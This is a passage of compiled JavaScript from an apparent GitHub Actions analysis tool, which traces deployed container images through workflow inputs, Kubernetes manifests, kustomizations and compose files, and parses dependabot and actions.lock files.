        { action: 'google-github-actions/deploy-cloudrun', images: ['image'], manifests: [{ input: 'metadata', form: 'containers' }] },
        { action: 'google-github-actions/create-cloud-deploy-release', images: ['images'], separator: ',' },
        { action: 'google-github-actions/deploy-appengine', images: ['image_url'] },
        { action: 'azure/webapps-deploy', images: ['images'] },
        { action: 'azure/functions-container-action', images: ['image'] },
        {
            action: 'azure/container-apps-deploy-action',
            images: ['imagetodeploy'],
            manifests: [{ input: 'yamlconfigpath', form: 'containers' }],
        },
        { action: 'azure/aci-deploy', images: ['image'] },
        { action: 'azure/k8s-deploy', images: ['images'], manifests: [{ input: 'manifests', form: 'containers' }], replaces: true },
        { action: 'aws-actions/amazon-ecs-render-task-definition', images: ['image'] },
        { action: 'aws-actions/amazon-ecs-deploy-task-definition', images: [], manifests: [{ input: 'task-definition', form: 'containers' }] },
        { action: 'aws-actions/amazon-ecs-deploy-express-service', images: ['image'] },
        { action: 'aws-actions/aws-lambda-deploy', images: ['image-uri'] },
        { action: 'yc-actions/yc-sls-container-deploy', images: ['revision-image-url'] },
    ],
    remoteScripts: [
        { action: 'appleboy/ssh-action', input: 'script' },
        { action: 'garygrossgarten/github-action-ssh', input: 'command' },
        { action: 'cross-the-world/ssh-scp-ssh-pipelines', input: 'last_ssh' },
        { action: 'cross-the-world/ssh-pipeline', input: 'script' },
        { action: 'fifsky/ssh-action', input: 'command' },
    ],
};

// EXTERNAL MODULE: ./build/src/data/script-inputs.js
var script_inputs = __webpack_require__(74909);
// EXTERNAL MODULE: ./build/src/workflow/slug-of.js
var slug_of = __webpack_require__(96108);
;// CONCATENATED MODULE: ./build/src/workflow/input-mentions.js





const takingActions = [...imageInputs.rows, ...imageInputs.remoteScripts, ...script_inputs/* scriptInputs */.J.rows].map(({ action }) => action.split('/').slice(0, 2).join('/').replaceAll('.', '\\.'));
function inputMentions(site) {
    const { step } = site;
    if (step.kind !== 'uses' || step.uses.target.kind !== 'repository')
        return [];
    const { owner, name, path } = step.uses.target;
    const slug = (0,slug_of/* slugOf */.t)(owner, name, path);
    const remote = imageInputs.remoteScripts
        .filter(({ action }) => action === slug)
        .map(({ input }) => ({ input, program: '', isElsewhere: true }));
    const local = script_inputs/* scriptInputs */.J.rows
        .filter(({ action }) => action === slug)
        .map(({ input, program }) => ({ input, program, isElsewhere: false }));
    const scripts = [...remote, ...local].flatMap(({ input, program, isElsewhere }) => {
        const value = scalarOf(step.with, input);
        return value === undefined ? [] : scriptMentions(withProgram(program, value.value), value, site, isElsewhere);
    });
    return [...imageInputs.rows.filter(({ action }) => action === slug).flatMap((row) => ofRow(row, site)), ...scripts];
}
function withProgram(program, text) {
    if (program === '')
        return text;
    return text
        .split('\n')
        .map((line) => (line.trim() === '' ? '' : `${program} ${line}`))
        .join('\n');
}
function ofRow(row, { step, file }) {
    if (step.kind !== 'uses')
        return [];
    const common = { by: row.action, isCluster: row.replaces === true, script: undefined };
    const given = row.images.flatMap((input) => scalarOf(step.with, input) ?? []);
    const texts = given.flatMap((value) => textsOf(value, row));
    const replaced = row.replaces === true ? texts.map((text) => text.replace(/(?:@.*|:[^/]*)$/, '')) : [];
    const images = given.map((value) => {
        const mentions = textsOf(value, row).map((text) => ({ text, hasName: true, hasVersion: true }));
        return { ...common, span: value.alias ?? value.span, images: mentions, manifests: [], replaced };
    });
    const files = (row.manifests ?? []).flatMap(({ input, form }) => {
        const value = scalarOf(step.with, input);
        if (value === undefined)
            return [];
        const manifests = linesOf(value.value).map((path) => ({ paths: [path], form, directory: file.root, changedBy: undefined }));
        return [{ ...common, span: value.alias ?? value.span, images: [], manifests, replaced }];
    });
    return [...images, ...files];
}
function textsOf({ value }, { separator }) {
    if (separator === undefined)
        return linesOf(value);
    return value.split(/[,\n]/).flatMap((pair) => (pair.includes('=') ? [pair.slice(pair.indexOf('=') + 1).trim()] : []));
}
function linesOf(text) {
    return text
        .split('\n')
        .map((line) => line.trim())
        .filter((line) => line !== '');
}
function scalarOf(inputs, name) {
    const value = (0,workflow_callers/* valueOf */.RP)(inputs, name);
    return value?.kind === 'scalar' ? value : undefined;
}

// EXTERNAL MODULE: ./build/src/workflow/walk.js
var walk = __webpack_require__(39918);
;// CONCATENATED MODULE: ./build/src/workflow/job-outputs.js


function jobOutputs(workflow, sources) {
    const outputOf = (id, name) => {
        const job = workflow.jobs.find((one) => one.id.value.toLowerCase() === id.toLowerCase());
        if (job?.kind !== 'steps')
            return undefined;
        const value = (0,workflow_callers/* valueOf */.RP)(job.outputs, name);
        if (value?.kind !== 'scalar')
            return undefined;
        const steps = [...(0,walk/* flatten */.Bq)(job.steps)];
        const scope = { env: [job.env, workflow.env], before: { steps, count: steps.length }, isScript: false, ...sources(workflow.file) };
        return { text: value.value, scope: { ...scope, jobOutput: outputOf } };
    };
    return outputOf;
}

// EXTERNAL MODULE: ./build/src/workflow/local-actions.js
var local_actions = __webpack_require__(30854);
// EXTERNAL MODULE: ./build/src/workflow/purposes.js + 5 modules
var workflow_purposes = __webpack_require__(75091);
// EXTERNAL MODULE: ./build/src/workflow/step-site.js
var step_site = __webpack_require__(44165);
;// CONCATENATED MODULE: ./build/src/workflow/deployed-images.js








const deployed_images_maxDepth = 10;
const known = new WeakMap();
function deployedIn(workflows, actions) {
    const found = known.get(workflows);
    if (found?.actions === actions)
        return found.deployed;
    const isInAction = actions.some(({ file }) => mayDeploy(file.text));
    const meant = workflows.filter(({ file }) => mayDeploy(file.text) || (isInAction && localUse.test(file.text)));
    const walk = meant.length === 0 ? undefined : new DeployWalk(workflows, actions);
    const parts = meant.flatMap((workflow) => workflow.jobs.map((job) => (walk === undefined || job.kind !== 'steps' ? nothing : walk.ofJob(workflow, job))));
    const deployed = { images: parts.flatMap(({ images }) => images), manifests: parts.flatMap(({ manifests }) => manifests) };
    known.set(workflows, { actions, deployed });
    return deployed;
}
const localUse = /\buses['"]?\s{0,9}:\s{0,9}['"]?[.$][/\\]/;
const listedAction = new RegExp(takingActions.join('|'), 'i');
function mayDeploy(text) {
    return mayMention(text) || listedAction.test(text);
}
const nothing = { images: [], manifests: [] };
class DeployWalk {
    #follow;
    #purposes;
    #sources;
    constructor(workflows, actions) {
        this.#follow = (0,local_actions/* localActions */.N)(actions);
        this.#purposes = new workflow_purposes/* Purposes */.e(this.#follow);
        this.#sources = (0,workflow_callers/* callerSources */.qI)(workflows, actions);
    }
    ofJob(workflow, job) {
        const all = (0,step_site/* jobSites */._O)(workflow, job).flatMap((site) => this.#inSite(site, site, workflow, job, new Set()));
        const isThrowaway = all.some(({ mention }) => mention.isCluster) && this.#purposes.usesThrowawayCluster(job, workflow.file);
        const found = all.filter(({ mention }) => !(isThrowaway && mention.isCluster));
        return {
            images: found.flatMap((one) => this.#images(one, workflow, job)),
            manifests: found.flatMap((one) => this.#manifests(one, workflow, job, editedNames(found))),
        };
    }
    #inSite(site, outer, workflow, job, seen) {
        const { step, file } = site;
        if (step.kind === 'run') {
            return mayMention(step.run.value) ? commandMentions(site, job, workflow).map((mention) => ({ outer, site, mention })) : [];
        }
        if (step.kind !== 'uses')
            return [];
        const use = this.#follow(file, step.uses);
        if (use === undefined)
            return inputMentions(site).map((mention) => ({ outer, site, mention }));
        if (use.state === 'unread' || seen.has(use.action.file.path) || seen.size >= deployed_images_maxDepth)
            return [];
        const within = new Set([...seen, use.action.file.path]);
        return (0,step_site/* actionSites */.nd)(use.action).flatMap((inner) => this.#inSite(inner, outer, workflow, job, within));
    }
    #scope({ site, mention }, workflow) {
        const { file } = site;
        const script = mention.script === undefined ? {} : { script: mention.script };
        const jobOutput = site.job === undefined ? {} : { jobOutput: jobOutputs(workflow, this.#sources) };
        return { env: site.env, before: site.before, isScript: mention.script !== undefined, ...script, ...this.#sources(file), ...jobOutput };
    }
    #images(found, workflow, job) {
        const { mention, site, outer } = found;
        const { by, span } = mention;
        const scope = mention.images.length === 0 ? undefined : this.#scope(found, workflow);
        return mention.images.flatMap(({ text, hasName, hasVersion }) => {
            if (scope === undefined || text.trim() === '')
                return [];
            const readings = expandText(text.trim(), scope).map((parts) => (hasName ? parts : [nameElsewhere, ...parts]));
            return [{ workflow, job, step: outer, file: site.file, span, by, written: text.trim(), readings, hasName, hasVersion }];
        });
    }
    #manifests(found, workflow, job, edited) {
        const { mention, site, outer } = found;
        if (mention.manifests.length === 0)
            return [];
        const { by, span, manifests, replaced } = mention;
        const scope = this.#scope(found, workflow);
        return manifests.map(({ directory, changedBy, ...files }) => {
            const names = files.form === 'kustomization' ? [...replaced, ...edited] : replaced;
            return { workflow, job, step: outer, file: site.file, span, by, mention: files, directory, scope, replaced: names, changedBy };
        });
    }
}
function editedNames(found) {
    return found.flatMap(({ mention }) => mention.by.startsWith('kustomize edit') ? mention.images.flatMap(({ replaces }) => replaces ?? []) : []);
}
const nameElsewhere = { kind: 'hole', name: 'its chart or file' };

// EXTERNAL MODULE: ./build/src/core/location.js
var core_location = __webpack_require__(54582);
// EXTERNAL MODULE: ./build/src/workflow/read-yaml.js + 2 modules
var read_yaml = __webpack_require__(28199);
;// CONCATENATED MODULE: ./build/src/facts/manifest-files.js



const manifestLimit = 64;
class ManifestFiles {
    texts = new Map();
    #tree;
    #root;
    #known = new Map();
    #wanted = new Set();
    constructor(tree, root) {
        this.#tree = tree;
        this.#root = root;
    }
    at(path) {
        const known = this.#known.get(path);
        if (known !== undefined)
            return known;
        if (this.#root !== '' && path !== this.#root && !path.startsWith(`${this.#root}/`))
            return outside;
        if (!this.#wanted.has(path) && this.#known.size + this.#wanted.size >= manifestLimit)
            return overLimit;
        this.#wanted.add(path);
        return undefined;
    }
    async load() {
        const paths = [...this.#wanted];
        this.#wanted.clear();
        if (paths.length === 0)
            return false;
        const listings = await this.#tree.list(paths);
        const answers = await this.#tree.read(paths);
        for (const [index, path] of paths.entries()) {
            const listing = listings[index];
            const names = listing?.state === 'entries' ? listing.entries.filter(({ kind }) => kind !== 'directory').map(({ name }) => name) : undefined;
            this.#known.set(path, names === undefined ? this.#read(answers[index]) : { state: 'directory', names: names.toSorted(core_location/* compareText */.n6) });
        }
        return true;
    }
    #read(answer) {
        if (answer === undefined || answer.state === 'absent')
            return { state: 'absent' };
        if (answer.state === 'unreadable')
            return answer;
        const { path, text } = answer;
        this.texts.set(path, text);
        const { roots, drafts } = (0,read_yaml/* readYamlStream */.O)(text, { isActions: false });
        const [draft] = drafts.filter(({ hides }) => hides === 'file');
        if (draft === undefined)
            return { state: 'file', file: { path, root: this.#root, text, lineStarts: (0,locate/* lineStartsOf */.xV)(text) }, roots };
        if (/\{\{/.test(text))
            return { state: 'unreadable', cause: 'unresolvable', why: 'is a template, and what it becomes is not in the repository' };
        return { state: 'unreadable', cause: draft.code === 'yaml-limit' ? 'limit' : 'invalid', why: draft.message };
    }
}
const outside = { state: 'unreadable', cause: 'invalid', why: 'leads out of the repository' };
const overLimit = {
    state: 'unreadable',
    cause: 'limit',
    why: `was not read: more than ${manifestLimit} files and directories are named by the commands of one repository`,
    remedy: 'deploy fewer files by one repository, or name the images by digest in the commands',
};

;// CONCATENATED MODULE: ./build/src/workflow/read-manifest.js

const containerLists = new Set(['containers', 'initContainers', 'ephemeralContainers', 'containerDefinitions']);
function containerImages(roots) {
    const found = [];
    const open = roots.toReversed();
    for (let node = open.pop(); node !== undefined; node = open.pop()) {
        if (node.kind === 'scalar')
            continue;
        if (node.kind === 'sequence') {
            open.push(...node.items.toReversed());
            continue;
        }
        const below = [];
        for (const { key, value } of node.entries) {
            if (containerLists.has(key.value) && value.kind === 'sequence')
                found.push(...value.items.flatMap(imageOf));
            below.push(value);
        }
        open.push(...below.toReversed());
    }
    return found;
}
function imageOf(container) {
    const image = container.kind === 'mapping' ? (0,workflow_reading/* fieldsOf */.Pf)(container).get('image')?.value : undefined;
    return image?.kind === 'scalar' && image.type !== 'null' ? [image] : [];
}
function composeServices([root]) {
    const services = root?.kind === 'mapping' ? (0,workflow_reading/* fieldsOf */.Pf)(root).get('services')?.value : undefined;
    if (services?.kind !== 'mapping')
        return [];
    return services.entries.map(({ key, value }) => {
        const image = merged(value, 'image', 0);
        const build = merged(value, 'build', 0);
        return { name: key.value, image: image?.kind === 'scalar' ? image : undefined, isBuilt: build !== undefined };
    });
}
const maxMerges = 8;
function merged(node, key, depth) {
    if (node.kind !== 'mapping' || depth > maxMerges)
        return undefined;
    const fields = (0,workflow_reading/* fieldsOf */.Pf)(node);
    const own = fields.get(key)?.value;
    if (own !== undefined)
        return own;
    const base = fields.get('<<')?.value;
    const bases = base?.kind === 'sequence' ? base.items : base === undefined ? [] : [base];
    for (const one of bases) {
        const found = merged(one, key, depth + 1);
        if (found !== undefined)
            return found;
    }
    return undefined;
}
function readKustomization([root]) {
    if (root?.kind !== 'mapping')
        return { resources: [], images: [] };
    const fields = (0,workflow_reading/* fieldsOf */.Pf)(root);
    const resources = ['resources', 'bases', 'components'].flatMap((key) => itemsOf(fields.get(key)?.value));
    return {
        resources: resources.flatMap((item) => (item.kind === 'scalar' ? [item.value] : [])),
        images: itemsOf(fields.get('images')?.value).flatMap((item) => (item.kind === 'mapping' ? replacementOf(item) : [])),
    };
}
function replacementOf(item) {
    const fields = (0,workflow_reading/* fieldsOf */.Pf)(item);
    const scalar = (key) => {
        const value = fields.get(key)?.value;
        return value?.kind === 'scalar' && value.type !== 'null' ? value : undefined;
    };
    const name = scalar('name');
    return name === undefined ? [] : [{ name: name.value, newName: scalar('newName'), newTag: scalar('newTag'), digest: scalar('digest') }];
}
function itemsOf(node) {
    return node?.kind === 'sequence' ? node.items : [];
}

;// CONCATENATED MODULE: ./build/src/facts/manifest-images.js





const manifest_images_maxDepth = 5;
const maxVisits = 500;
function lookThrough(use, files) {
    const look = new Look(use, files);
    const written = look.written();
    return { use, written, gaps: look.gaps };
}
function manifest_images_imagesOf({ use, written }) {
    return written.map(({ text, file, span }) => ({ written: text, readings: readingsOf(text, use), location: (0,locate/* locate */.x5)(file, span), use }));
}
function readingsOf(text, { scope }) {
    return expandText(text.trim(), { ...scope, isScript: true });
}
const composeNames = ['compose.yaml', 'compose.yml', 'docker-compose.yaml', 'docker-compose.yml'];
const overrideNames = ['compose.override.yaml', 'compose.override.yml', 'docker-compose.override.yaml', 'docker-compose.override.yml'];
const kustomizationNames = ['kustomization.yaml', 'kustomization.yml', 'Kustomization'];
class Look {
    gaps = [];
    #use;
    #files;
    #visits = 0;
    constructor(use, files) {
        this.#use = use;
        this.#files = files;
    }
    written() {
        const { mention, changedBy } = this.#use;
        if (changedBy !== undefined) {
            const why = `is changed by \`${changedBy}\` before it is deployed`;
            this.#gap(mention.paths[0] ?? mention.form, 'unresolvable', why);
            return [];
        }
        if (mention.form === 'compose')
            return this.#compose(mention.paths);
        const places = mention.paths.flatMap((path) => this.#places(path));
        if (mention.form === 'kustomization')
            return places.flatMap((place) => this.#kustomization(place, 0));
        return places.flatMap((place) => this.#containers(place)).filter(({ text }) => !this.#isReplaced(nameOf(text)));
    }
    #places(path) {
        const { scope, directory } = this.#use;
        const texts = expandText(path, scope).map((parts) => parts.map((part) => (part.kind === 'text' ? part.text : '$')).join(''));
        return [...new Set(texts)].flatMap((text) => {
            const place = inDirectory(directory, text);
            if (place === undefined)
                this.#gap(shown(path), 'unresolvable', 'is deployed, and is no file that the repository names');
            return place === undefined ? [] : [place];
        });
    }
    #containers(place) {
        const at = this.#files.at(place);
        if (at === undefined)
            return [];
        if (at.state === 'file')
            return containerImages(at.roots).map((image) => writtenOf(image, at.file));
        if (at.state !== 'directory')
            return this.#missing(place, at);
        const names = at.names.filter((name) => /\.(?:ya?ml|json)$/i.test(name) && !/^kustomization\.ya?ml$/i.test(name));
        return names.flatMap((name) => this.#containers(`${place}${place === '' ? '' : '/'}${name}`));
    }
    #compose(paths) {
        const places = paths.length > 0 ? paths.flatMap((path) => this.#places(path)) : this.#defaults();
        const services = new Map();
        const built = new Set();
        for (const place of places) {
            const at = this.#files.at(place);
            if (at === undefined)
                continue;
            if (at.state !== 'file') {
                this.#missing(place, at);
                continue;
            }
            for (const { name, image, isBuilt } of composeServices(at.roots)) {
                if (image !== undefined)
                    services.set(name, { image, file: at.file });
                if (isBuilt)
                    built.add(name);
            }
        }
        const isBuilding = !this.#use.by.includes('stack');
        return [...services].flatMap(([name, { image, file }]) => (isBuilding && built.has(name) ? [] : [writtenOf(image, file)]));
    }
    #defaults() {
        const { directory } = this.#use;
        const at = directory === undefined ? undefined : this.#files.at(directory);
        if (directory === undefined || at?.state !== 'directory')
            return [];
        const found = [composeNames, overrideNames].flatMap((names) => names.find((name) => at.names.includes(name)) ?? []);
        if (found.length === 0)
            this.#gap(composeNames[0] ?? '', 'unresolvable', 'is deployed, and is not in the repository');
        return found.flatMap((name) => inDirectory(directory, name) ?? []);
    }
    #kustomization(place, depth) {
        this.#visits += 1;
        if (this.#visits > maxVisits) {
            if (this.#visits === maxVisits + 1)
                this.#gap(place, 'limit', `was not read: one command deploys more than ${maxVisits} files`);
            return [];
        }
        const at = this.#files.at(place);
        if (at === undefined)
            return [];
        if (at.state === 'file')
            return containerImages(at.roots).map((image) => writtenOf(image, at.file));
        if (at.state !== 'directory')
            return this.#missing(place, at);
        const name = kustomizationNames.find((one) => at.names.includes(one));
        const path = inDirectory(place, name ?? 'kustomization.yaml') ?? place;
        const own = name === undefined ? { state: 'absent' } : this.#files.at(path);
        if (own === undefined)
            return [];
        if (own.state !== 'file')
            return this.#missing(path, own);
        const { resources, images } = readKustomization(own.roots);
        const taken = resources.flatMap((resource) => this.#resource(place, resource, depth));
        const left = taken.filter(({ text }) => !this.#isReplaced(nameOf(text)));
        return replaced(left, images.filter((one) => !this.#isReplaced(one.name)), own.file);
    }
    #resource(place, resource, depth) {
        const next = depth < manifest_images_maxDepth ? inDirectory(place, resource) : undefined;
        if (next !== undefined && next !== place)
            return this.#kustomization(next, depth + 1);
        this.#gap(shown(resource), depth < manifest_images_maxDepth ? 'unresolvable' : 'limit', 'is deployed by a kustomization, and was not read');
        return [];
    }
    #isReplaced(name) {
        return this.#use.replaced.includes(name);
    }
    #missing(place, at) {
        if (at.state === 'absent')
            this.#gap(place, 'unresolvable', 'is deployed, and is not in the repository: a step must have made it');
        if (at.state === 'directory')
            this.#gap(place, 'invalid', 'is a directory, where a file must be');
        if (at.state === 'unreadable')
            this.#gap(place, at.cause, at.why, at.remedy);
        return [];
    }
    #gap(item, cause, why, remedy) {
        const { file, span } = this.#use;
        const text = remedy ?? 'name each image by digest where the repository shows it';
        this.gaps.push((0,core_facts/* gap */.rQ)({ item, cause, why, remedy: text, location: (0,locate/* locate */.x5)(file, span) }));
    }
}
function writtenOf(image, file) {
    return { text: image.value, file, span: image.alias ?? image.span };
}
function nameOf(text) {
    return text.replace(/@.*$/, '').replace(/:[^/:]*$/, '');
}
function shown(path) {
    return path
        .replace(/\/\/[^/]*@/, '//***@')
        .replace(/\?.*$/, '')
        .slice(0, 200);
}
function replaced(images, replacements, file) {
    const unused = new Set(replacements);
    const byName = new Map(replacements.toReversed().map((one) => [one.name, one]));
    const changed = images.map((image) => {
        const found = byName.get(nameOf(image.text));
        if (found === undefined)
            return image;
        unused.delete(found);
        return applied(image, found, file);
    });
    const rest = [...unused].flatMap((one) => {
        const place = one.digest ?? one.newTag;
        return place === undefined ? [] : [applied({ text: one.name, file, span: place.span }, one, file)];
    });
    return [...changed, ...rest];
}
function applied(image, { newName, newTag, digest }, file) {
    const place = digest ?? newTag ?? newName;
    const name = newName?.value ?? nameOf(image.text);
    const version = digest !== undefined ? `@${digest.value}` : newTag !== undefined ? `:${newTag.value}` : image.text.slice(nameOf(image.text).length);
    return place === undefined ? image : { text: `${name}${version}`, file, span: place.alias ?? place.span };
}

;// CONCATENATED MODULE: ./build/src/facts/manifests.js






const maxRounds = 12;
const manifests = (0,define_fact/* defineFact */.u)({
    key: 'manifests',
    needs: ['workflows', 'actions'],
    scope: 'tree',
    permissions: { contents: 'read' },
    tier: 1,
    collect: async (_question, { workflows, actions }, { tree, roots }) => {
        if (workflows.state === 'unknown')
            return workflows;
        const all = deployedIn(workflows.value.items, actions.state === 'known' ? actions.value.items : none).manifests;
        const uses = all.slice(0, maxUses);
        const files = new ManifestFiles(tree, roots[0] ?? '');
        let seen = uses.map((use) => lookThrough(use, files));
        for (let round = 0; round < maxRounds && (await files.load()); round += 1)
            seen = uses.map((use) => lookThrough(use, files));
        const gaps = distinct([...seen.flatMap((one) => one.gaps), ...overLimits(all, seen)]);
        return (0,core_facts/* known */.eO)({ items: firstImages(seen), gaps, texts: files.texts }, tree.source);
    },
});
const maxUses = 256;
const maxImages = 5_000;
function firstImages(seen) {
    const images = [];
    for (const one of seen) {
        const room = maxImages - images.length;
        images.push(...manifest_images_imagesOf({ ...one, written: one.written.slice(0, room) }));
    }
    return images;
}
function overLimits(uses, seen) {
    const count = seen.reduce((sum, { written }) => sum + written.length, 0);
    const next = uses[maxUses];
    const uncounted = next === undefined ? [] : [manifests_overLimit(next, `more than ${maxUses} commands and inputs deploy files`)];
    const last = seen.at(-1);
    return last === undefined || count <= maxImages
        ? uncounted
        : [...uncounted, manifests_overLimit(last.use, `the deployed files name more than ${maxImages} images`)];
}
function manifests_overLimit({ by, file, span }, why) {
    return (0,core_facts/* gap */.rQ)({ item: by, cause: 'limit', why, remedy: 'deploy less by one repository', location: (0,locate/* locate */.x5)(file, span) });
}
const none = [];
function distinct(gaps) {
    return [...new Map(gaps.map((one) => [`${one.item}\n${one.why}`, one])).values()];
}

// EXTERNAL MODULE: ./build/src/workflow/parse-action.js
var parse_action = __webpack_require__(97191);
// EXTERNAL MODULE: ./build/src/workflow/open-reading.js
var open_reading = __webpack_require__(46074);
;// CONCATENATED MODULE: ./build/src/workflow/parse-dependabot.js


function parseDependabot(source) {
    const { reading, root } = (0,open_reading/* openReading */.b)(source, { isActions: false });
    const dependabot = root && dependabotOf(reading, root);
    return { dependabot, problems: (0,workflow_reading/* problemsOf */.GW)(reading) };
}
function dependabotOf(reading, root) {
    const updates = root.kind === 'mapping' ? (0,workflow_reading/* valueOf */.RP)((0,workflow_reading/* fieldsOf */.Pf)(root), 'updates') : undefined;
    if (updates?.kind !== 'sequence') {
        (0,workflow_reading/* refuse */.TR)(reading, (0,workflow_reading/* placeOf */.$t)(updates ?? root), 'the file has no list `updates`; write one entry for each ecosystem', 'file');
        return undefined;
    }
    const entries = updates.items.filter((item) => {
        if (item.kind === 'mapping')
            return true;
        (0,workflow_reading/* refuse */.TR)(reading, (0,workflow_reading/* placeOf */.$t)(item), `an update is a ${item.kind}; write a mapping with \`package-ecosystem\``, 'around');
        return false;
    });
    return { kind: 'dependabot', file: reading.file, updates: entries };
}

// EXTERNAL MODULE: ./build/src/workflow/quote.js
var quote = __webpack_require__(41231);
;// CONCATENATED MODULE: ./build/src/workflow/parse-lock.js



function parseLock(source) {
    const { reading, root } = (0,open_reading/* openReading */.b)(source, { isActions: false });
    const lock = root && lockOf(reading, root);
    return { lock, problems: (0,workflow_reading/* problemsOf */.GW)(reading) };
}
function lockOf(reading, root) {
    if (root.kind !== 'mapping') {
        (0,workflow_reading/* refuse */.TR)(reading, root.span, `the file holds a ${root.kind}; a lock is a mapping with \`version\`, \`workflows\` and \`dependencies\``, 'file');
        return undefined;
    }
    const fields = (0,workflow_reading/* fieldsOf */.Pf)(root);
    const workflows = entriesAt(reading, fields, 'workflows');
    const dependencies = entriesAt(reading, fields, 'dependencies');
    if (workflows === undefined || dependencies === undefined)
        return undefined;
    return {
        kind: 'lock',
        file: reading.file,
        version: (0,workflow_reading/* scalarAt */.C_)(reading, fields, 'version'),
        workflows: workflows.map(({ key, value }) => ({ path: key, refs: isNothing(value) ? [] : (0,workflow_reading/* scalarsOf */.TM)(reading, value, key.value) })),
        dependencies: dependencies.flatMap((entry) => dependencyOf(reading, entry)),
    };
}
function isNothing(node) {
    return node.kind === 'scalar' && node.type === 'null';
}
function entriesAt(reading, fields, key) {
    const section = (0,workflow_reading/* valueOf */.RP)(fields, key);
    if (section === undefined && fields.has(key))
        return [];
    if (section?.kind === 'mapping')
        return section.entries;
    const place = section === undefined ? { start: 0, end: 0 } : (0,workflow_reading/* placeOf */.$t)(section);
    (0,workflow_reading/* refuse */.TR)(reading, place, `the lock has ${section === undefined ? 'no' : `a ${section.kind} as`} \`${key}\`; write it anew with \`gh actions-lock\``, 'file');
    return undefined;
}
function dependencyOf(reading, { key, value }) {
    if (value.kind !== 'mapping') {
        (0,workflow_reading/* refuse */.TR)(reading, (0,workflow_reading/* placeOf */.$t)(value), `the record of ${(0,quote/* quote */.h)(key.value)} is a ${value.kind}; write the lock anew with \`gh actions-lock\``, 'around');
        return [];
    }
    const fields = (0,workflow_reading/* fieldsOf */.Pf)(value);
    const commit = (0,workflow_reading/* scalarAt */.C_)(reading, fields, 'commit');
    const ownerId = (0,workflow_reading/* scalarAt */.C_)(reading, fields, 'owner_id');
    return [{ ref: key, commit, ownerId, repositoryId: (0,workflow_reading/* scalarAt */.C_)(reading, fields, 'repo_id'), uses: (0,workflow_reading/* scalarsAt */.xj)(reading, fields, 'uses') }];
}

// EXTERNAL MODULE: ./build/src/workflow/parse-workflow.js + 5 modules
var parse_workflow = __webpack_require__(28454);
;// CONCATENATED MODULE: ./build/src/facts/pipeline.js










const nestedActionsLimit = 10;
const pipeline = (0,define_fact/* defineFact */.u)({
    key: 'pipeline',
    needs: [],
    scope: 'tree',
    permissions: { contents: 'read' },
    tier: 1,
    collect: async (question, _facts, { tree, roots, rootGaps }) => {
        const reading = startReading(rootGaps);
        const listings = await tree.list(roots.map((root) => join(root, '.github/workflows')));
        const paths = roots.flatMap((root, index) => pathsOf(root, listings[index], reading));
        for (let start = 0; start < paths.length; start += batchSize)
            await readBatch(tree, paths.slice(start, start + batchSize), reading);
        await readLocalActions(tree, reading);
        if (question.run !== undefined && reading.workflows.length === 0 && reading.gaps.length === 0) {
            const reason = 'no workflow file was read, although a workflow runs';
            return (0,core_facts/* unknown */.L5)({ cause: 'empty', reason, remedy: 'Grant `contents: read` and judge the commit that runs' });
        }
        return (0,core_facts/* known */.eO)(toPipeline(reading), tree.source);
    },
});
const batchSize = 64;
async function readBatch(tree, paths, reading) {
    const answers = await tree.read(paths.map(({ path }) => path));
    for (const [index, answer] of answers.entries())
        take(answer, paths[index]?.root ?? '', reading);
}
function startReading(gaps) {
    return { workflows: [], actions: [], dependabot: [], locks: [], problems: [], gaps: [...gaps], texts: new Map() };
}
const besideWorkflows = ['action.yml', 'action.yaml', '.github/dependabot.yml', '.github/dependabot.yaml'];
function pathsOf(root, listing, reading) {
    const fixed = besideWorkflows.map((name) => ({ root, path: join(root, name) }));
    if (listing === undefined || listing.state === 'absent')
        return fixed;
    if (listing.state === 'unreadable') {
        reading.gaps.push((0,core_facts/* gap */.rQ)({ item: listing.path, cause: listing.cause, why: listing.why, ...remedyOf(listing) }));
        return fixed;
    }
    const names = listing.entries.filter(({ name, kind }) => kind !== 'directory' && isPipelineName(name)).map(({ name }) => name);
    return [...fixed, ...names.toSorted(core_location/* compareText */.n6).map((name) => ({ root, path: join(root, `.github/workflows/${name}`) }))];
}
function isPipelineName(name) {
    return /\.ya?ml$/.test(name) || name === 'actions.lock';
}
function remedyOf({ remedy }) {
    return remedy === undefined ? {} : { remedy };
}
function take(answer, root, reading) {
    if (answer.state === 'absent')
        return;
    if (answer.state === 'unreadable') {
        const location = startOf(answer.path);
        reading.gaps.push((0,core_facts/* gap */.rQ)({ item: answer.path, cause: answer.cause, why: answer.why, location, ...remedyOf(answer) }));
        reading.problems.push(unreadableProblem(answer));
        return;
    }
    reading.texts.set(answer.path, answer.text);
    const source = { path: answer.path, root, text: answer.text };
    parseInto(source, reading);
}
function startOf(path) {
    const start = { line: 1, column: 1 };
    return { path, start, end: start };
}
function unreadableProblem({ path, why, cause }) {
    return {
        code: cause === 'limit' ? 'yaml-limit' : 'unreadable',
        path,
        item: path,
        message: why,
        blinds: true,
        span: { start: 0, end: 0 },
    };
}
function parseInto(source, reading) {
    const name = source.path.slice(source.path.lastIndexOf('/') + 1);
    if (name === 'actions.lock') {
        const { lock, problems } = parseLock(source);
        keep(lock, reading.locks, problems, reading);
    }
    else if (/^dependabot\.ya?ml$/.test(name) && source.path.endsWith(`.github/${name}`)) {
        const { dependabot, problems } = parseDependabot(source);
        keep(dependabot, reading.dependabot, problems, reading);
    }
    else if (/(^|\/)\.github\/workflows\/[^/]+$/.test(source.path)) {
        const { workflow, problems } = (0,parse_workflow/* parseWorkflow */.h)(source);
        keep(workflow, reading.workflows, problems, reading);
    }
    else {
        const { action, problems } = (0,parse_action/* parseAction */.w)(source);
        keep(action, reading.actions, problems, reading);
    }
}
function keep(item, items, problems, reading) {
    if (item !== undefined)
        items.push(item);
    for (const problem of problems) {
        reading.problems.push(problem);
        if (problem.blinds)
            reading.gaps.push(gapOf(problem));
    }
}
function gapOf({ item, message, file, span, code }) {
    const location = file === undefined ? {} : { location: (0,locate/* locate */.x5)(file, span) };
    return (0,core_facts/* gap */.rQ)({
        item,
        cause: code === 'yaml-limit' ? 'limit' : 'invalid',
        why: message,
        ...location,
    });
}
async function readLocalActions(tree, reading) {
    const seen = new Set(reading.actions.map(({ file }) => directoryOf(file.path)));
    let owners = [...reading.workflows, ...reading.actions];
    for (let depth = 0; depth < nestedActionsLimit && owners.length > 0; depth += 1) {
        const wanted = owners.flatMap(localActionDirectories).filter(({ path }) => !seen.has(path));
        const fresh = [...new Map(wanted.map((one) => [one.path, one])).values()];
        for (const { path } of fresh)
            seen.add(path);
        const before = reading.actions.length;
        const files = fresh.flatMap(({ root, path }) => ['action.yml', 'action.yaml'].map((name) => ({ root, path: join(path, name) })));
        if (files.length === 0)
            return;
